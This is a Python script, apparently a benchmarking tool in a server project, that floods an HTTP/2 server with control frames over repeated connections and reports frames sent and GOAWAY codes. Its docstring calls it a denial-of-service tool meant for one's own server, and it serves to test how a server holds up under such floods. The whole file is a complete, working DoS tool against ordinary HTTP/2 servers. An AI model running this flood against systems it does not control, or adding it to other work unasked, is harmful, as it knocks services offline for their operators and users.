#!/usr/bin/env python3
"""HTTP/2 control-frame flood: connections that send frames which make a server work but carry no
request (issue 16, item 6). Each connection sends the client preface and an empty SETTINGS, then the
chosen frame over and over as fast as the socket takes it; when the server closes it (GOAWAY or
reset), it connects again. Prints, at the end, frames sent, connections made and GOAWAY codes seen.

    python3 bench/tools/flood.py 127.0.0.1:50051 --connections 4 --kind window_update --duration 10

Kinds: window_update (connection WINDOW_UPDATE +1), priority, ping, settings, unknown (type 0xfa),
empty_data (empty DATA frames on a request stream left open), mixed (all of them in turn).
Only the standard library; point it at a server of your own (it is a denial-of-service tool).
"""

import argparse
import collections
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


# HEADERS for `POST /` over http, from HPACK's static table (indexes 3, 6, 4), END_HEADERS: a stream
# the server answers but whose request body stays open, for the empty DATA frames.
OPEN_STREAM = frame(1, 0x4, 1, bytes([0x83, 0x86, 0x84]))

KINDS = {
    "window_update": (b"", frame(8, 0, 0, struct.pack(">I", 1))),
    "priority": (b"", frame(2, 0, 3, struct.pack(">IB", 0, 16))),
    "ping": (b"", frame(6, 0, 0, bytes(8))),
    "settings": (b"", frame(4, 0, 0)),
    "unknown": (b"", frame(0xFA, 0, 0, bytes(8))),
    "empty_data": (OPEN_STREAM, frame(0, 0, 1)),
}
KINDS["mixed"] = (OPEN_STREAM, b"".join(f for _, f in KINDS.values()))

# Frames written per send call: large enough that Python's overhead does not limit the flood.
BATCH_BYTES = 64 * 1024


def flood_one(addr, kind, deadline, stats, lock):
    setup, unit = KINDS[kind]
    repeat = max(1, BATCH_BYTES // len(unit))
    batch = unit * repeat
    frames_per_batch = repeat * (len(KINDS) - 1 if kind == "mixed" else 1)
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection(addr)
        except OSError:
            time.sleep(0.01)
            continue
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        closed = threading.Event()

        def reader():
            # Drains what the server sends (PING and SETTINGS acks) and notes a GOAWAY's code.
            buf = b""
            try:
                while True:
                    chunk = sock.recv(65536)
                    if not chunk:
                        break
                    buf += chunk
                    while len(buf) >= 9:
                        length = int.from_bytes(buf[:3], "big")
                        if len(buf) < 9 + length:
                            break
                        if buf[3] == 7 and length >= 8:
                            code = int.from_bytes(buf[13:17], "big")
                            with lock:
                                stats["goaway %#x" % code] += 1
                        buf = buf[9 + length:]
            except OSError:
                pass
            closed.set()

        threading.Thread(target=reader, daemon=True).start()
        with lock:
            stats["connections"] += 1
        try:
            sock.sendall(PREFACE + frame(4, 0, 0) + setup)
            while time.monotonic() < deadline and not closed.is_set():
                sock.sendall(batch)
                with lock:
                    stats["frames sent"] += frames_per_batch
        except OSError:
            pass
        sock.close()
        closed.wait(1)


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("addr", help="host:port of the server")
    p.add_argument("--connections", type=int, default=4)
    p.add_argument("--kind", choices=sorted(KINDS), default="window_update")
    p.add_argument("--duration", type=float, default=10.0, help="seconds")
    a = p.parse_args()
    host, port = a.addr.rsplit(":", 1)
    stats, lock = collections.Counter(), threading.Lock()
    deadline = time.monotonic() + a.duration
    threads = [threading.Thread(target=flood_one, args=((host, int(port)), a.kind, deadline, stats, lock))
               for _ in range(a.connections)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(", ".join(f"{k}: {v}" for k, v in sorted(stats.items())))


if __name__ == "__main__":
    main()
